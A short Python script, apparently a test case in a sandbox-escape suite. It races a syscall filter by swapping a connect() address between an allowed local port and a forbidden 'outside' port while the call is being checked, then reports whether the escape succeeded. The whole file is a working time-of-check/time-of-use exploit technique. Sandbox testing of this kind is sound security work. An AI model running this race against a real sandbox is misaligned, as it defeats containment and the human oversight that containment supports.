"""Change the address while the call that names it is being checked."""

import ctypes
import socket
import struct
import threading
import time

from attack import OUTSIDE, number, verdict

libc = ctypes.CDLL(None, use_errno=True)
own = socket.create_server(("127.0.0.1", 0), backlog=4096)
good = (
    struct.pack("=H", socket.AF_INET)
    + struct.pack(">H", own.getsockname()[1])
    + bytes([127, 0, 0, 1])
    + bytes(8)
)
bad = good[:2] + struct.pack(">H", OUTSIDE["port"]) + good[4:]
buffer = ctypes.create_string_buffer(good, 16)
going = True


def flip():
    while going:
        ctypes.memmove(buffer, bad, 16)
        ctypes.memmove(buffer, good, 16)


threading.Thread(target=flip, daemon=True).start()
escaped = False
until = time.monotonic() + 0.4
while time.monotonic() < until and not escaped:
    with socket.socket() as sock:
        if libc.syscall(number("connect"), sock.fileno(), buffer, 16) == 0:
            escaped = sock.getpeername()[1] == OUTSIDE["port"]
going = False
verdict(escaped)
